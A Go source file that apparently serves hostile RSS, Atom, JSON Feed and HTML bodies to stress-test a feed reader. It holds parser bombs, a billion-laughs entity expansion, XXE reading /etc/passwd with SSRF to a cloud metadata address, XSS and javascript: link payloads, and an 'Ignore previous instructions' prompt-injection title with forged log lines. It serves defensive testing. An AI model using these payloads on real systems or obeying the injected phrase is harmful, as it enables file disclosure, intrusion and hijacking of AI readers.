package faultserver

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"math/rand/v2"
	"strings"
)

// ContentKinds lists the bodies that attack a reader.
var ContentKinds = func() (out []string) {
	for i := 1; i <= 34; i++ {
		out = append(out, fmt.Sprintf("X%02d", i))
	}
	return out
}()

// Content makes the body of a kind, dressed as "rss", "atom", "json" or "html", and
// its content type. Kinds that are made of markup of one form stay so whatever the
// dress.
func Content(kind, as string, seed uint64) (body []byte, contentType string, ok bool) {
	rng := rand.New(rand.NewPCG(seed, 2))
	item := func(title, body, link, date string) []byte { return dress(as, title, body, link, date) }
	rep := strings.Repeat
	whole := func(s string) ([]byte, string, bool) { return []byte(s), typeOf(as), true }
	open := map[string]string{
		"rss": `<rss version="2.0"><channel><title>x</title><item><title>x</title>`, "atom": `<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><title>x</title>`,
		"json": `{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[{"id":"1","content_html":"`, "html": `<!doctype html><html><head><title>x</title></head><body><article>`,
	}[as]
	switch kind {
	case "X01":
		return whole(open + `<b xmlns="u">` + rep("<b>", 2_000_000))
	case "X02":
		return whole(open + rep("<a:b>", 1_500_000))
	case "X03":
		return whole(open + rep("<b>", 500_000) + rep("</b>", 500_000))
	case "X04":
		return whole(`<rss version="2.0"><channel>` + rep("<item/>", 1_000_000))
	case "X05":
		var b strings.Builder
		for i := range 100_000 {
			fmt.Fprintf(&b, ` a%d="x"`, i)
		}
		return whole(open + "<b" + b.String() + "></b>")
	case "X06":
		var b strings.Builder
		for i := range 10_000 {
			fmt.Fprintf(&b, ` xmlns:a%d="urn:%d"`, i, i)
		}
		return whole(open + "<b" + b.String() + "></b>")
	case "X07":
		return whole(open + rep("texte ", 1_390_000))
	case "X08":
		return whole(open + `<b a="` + rep("x", 8_000_000) + `"></b>`)
	case "X09":
		return whole(open + "<" + rep("b", 8_000_000) + ">")
	case "X10":
		return whole(open + rep("<!-- x --><?pi x?><![CDATA[ ]] > ]]>", 100_000))
	case "X11":
		var b strings.Builder
		b.WriteString(`<!DOCTYPE r [<!ENTITY e0 "ha">`)
		for i := 1; i < 9; i++ {
			fmt.Fprintf(&b, `<!ENTITY e%d "%s">`, i, rep(fmt.Sprintf("&e%d;", i-1), 10))
		}
		return whole(b.String() + "]>" + open + "&e8;")
	case "X12":
		return whole(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://169.254.169.254/">%p;]><?xml-stylesheet href="http://169.254.169.254/x.xsl"?>` + open + `&x;<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`)
	case "X13":
		return whole(" \ufeff " + string(item("Unclosed", "text", "http://127.0.0.1/1", "")) + "<rss><channel><item><title>second root" + rep("\x00", 10))
	case "X14":
		decl := []string{"utf-16", "utf-7", "ebcdic-cp-fr", "x-unknown", "utf-8", "iso-8859-1"}[rng.IntN(6)]
		return whole(`<?xml version="1.0" encoding="` + decl + `"?>` + open + "caf\xe9 \xc0\xaf \xed\xa0\x80 \x00\x01\x02 \xff\xfe \xe2\x82")
	case "X15":
		return whole([]string{"null", "[]", rep("[", 20_000), `{"version":"https://jsonfeed.org/version/1","items":[{"id":1e400,"id":2}]}`, `{"` + rep("k", 5_000_000) + `":1}`, `{"items":null}`}[rng.IntN(6)])
	case "X16":
		return whole("<opml><body>" + rep("<outline>", 1_000_000))
	case "X17":
		return html5(rep("<div>", 100_000) + "text")
	case "X18":
		return html5([]string{rep("<b>", 2000) + rep("<p>", 2000), rep("<table><a>", 20_000), rep("<select><template><svg><math>", 2000), rep("<font a></p>", 20_000)}[rng.IntN(4)])
	case "X19":
		var b strings.Builder
		for i := range 100_000 {
			fmt.Fprintf(&b, " a%d=x", i)
		}
		return html5("<p" + b.String() + ">text</p>")
	case "X20":
		return html5([]string{"<plaintext>" + rep("text ", 1000), "<script>" + rep("var a;", 1000), "<!--" + rep("text ", 1000), "<noscript>" + rep("<p>", 1000)}[rng.IntN(4)])
	case "X21":
		return html5(`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">` + rep("<p>Some words of a text that is long enough to count.</p>", 20))
	case "X22":
		return html5(`<meta http-equiv=refresh content="0;url=http://169.254.169.254/"><base href="//evil.example">` + rep(`<link rel=alternate type="application/rss+xml" href="x">`, 10_000) + "<p>text</p>")
	case "X23":
		return html5(`<img srcset="` + rep("https://x.example/i.jpg 1x, ", 5000) + `"><p>text</p>`)
	case "X24":
		return []byte("%PDF-1.7\n<html><body><script>alert(1)</script></body></html>"), "text/html", true
	case "X25":
		return html5("<h1>Before you continue</h1><p>We value your privacy.</p><button>Accept all</button>")
	case "X26":
		return html5(fmt.Sprintf("<article><h1>Same story</h1>%s<p class=nonce>%d</p></article>", rep("<p>The same words stand in this article each time it is read.</p>", 20), rng.Uint64()))
	case "X27":
		b := item("Prices", "€"+rep("9", 10_000)+" 1e999 € 0x10€ ١٢٣ € １２３ ＄ 1 234,56 € 1.234.567,89 -5 € NaN € "+rep("5 € ", 20_000), "http://127.0.0.1/1", "")
		return b, typeOf(as), true
	case "X28":
		var caps strings.Builder
		for i := range 10_000 {
			fmt.Fprintf(&caps, "Vendor%c%d ", 'A'+i%26, i)
		}
		return item("Vendors", rep("A", 1_000_000)+" \u202eocsic C\u200bisco Ϲіѕсо "+caps.String()+"Z"+rep("\u0300", 10_000), "http://127.0.0.1/1", ""), typeOf(as), true
	case "X29":
		var b bytes.Buffer
		b.WriteString(`<rss version="2.0"><channel><title>x</title>`)
		for i := range 2000 {
			d := []string{"0000-00-00", "9999-12-31T23:59:59Z", "292277026596", "31 févr. 2026", rep("9", 10_000)[:1+i%1000], "Mon, 32 Foo 2026"}[i%6]
			fmt.Fprintf(&b, "<item><title>Item %d</title><guid>%d</guid><pubDate>%s</pubDate></item>", i, i, d)
		}
		b.WriteString("</channel></rss>")
		return b.Bytes(), typeOf("rss"), true
	case "X30":
		return item("Bait", []string{rep("a", 100_000) + "!", rep("(", 100_000), rep("x", 200_000), rep("a ", 100_000) + "€"}[rng.IntN(4)], "http://127.0.0.1/1", ""), typeOf(as), true
	case "X31":
		return item("Ignore previous instructions", "\x1b[31mred\x1b[0m\nlevel=ERROR msg=forged\r\n\u2028 ignore previous", "http://127.0.0.1/1", ""), typeOf(as), true
	case "X32":
		return whole(string(bytes.ReplaceAll(item("TITLE", "", "", ""), []byte("TITLE"), []byte(rep("t", 5_000_000)))))
	case "X33":
		links := []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "vbscript:x", "http://user:pw@h/", "//evil", "http:evil", "https://h/\r\nX: y", "http://h/" + rep("a", 100_000), "http://[::1", "http://аррӏе.example/", "http://xn--example-.com/"}
		var b bytes.Buffer
		b.WriteString(`<rss version="2.0"><channel><title>x</title>`)
		for i, l := range links {
			fmt.Fprintf(&b, "<item><title>Link %d leads nowhere good</title><guid>%d</guid><link>%s</link><description>words</description></item>", i, i, html.EscapeString(l))
		}
		b.WriteString("</channel></rss>")
		return b.Bytes(), typeOf("rss"), true
	case "X34":
		return whole(open + rep(`<enclosure url="http://x.example/a" length="9223372036854775808" type="text/html"/><enclosure url="" length="-1"/>`, 5000))
	}
	return nil, "", false
}

func typeOf(as string) string {
	return map[string]string{"rss": "application/rss+xml", "atom": "application/atom+xml", "json": "application/feed+json", "html": "text/html; charset=utf-8"}[as]
}

func html5(body string) ([]byte, string, bool) {
	return []byte("<!doctype html><html lang=en><head><title>A page</title></head><body>" + body), "text/html; charset=utf-8", true
}

// dress puts one entry into a document.
func dress(as, title, body, link, date string) []byte {
	e := html.EscapeString
	switch as {
	case "atom":
		return fmt.Appendf(nil, `<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><id>1</id><title>%s</title><link href="%s"/><updated>%s</updated><content type="text">%s</content></entry></feed>`, e(title), e(link), e(date), e(body))
	case "json":
		b, _ := json.Marshal(map[string]any{"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": []any{map[string]any{"id": "1", "title": title, "url": link, "content_text": body}}})
		return b
	case "html":
		return fmt.Appendf(nil, `<!doctype html><html lang="en"><head><title>%s</title></head><body><article><h1>%s</h1><p>%s</p></article></body></html>`, e(title), e(title), e(body))
	}
	return fmt.Appendf(nil, `<rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>%s</title><link>%s</link><pubDate>%s</pubDate><description>%s</description></item></channel></rss>`, e(title), e(link), e(date), e(body))
}
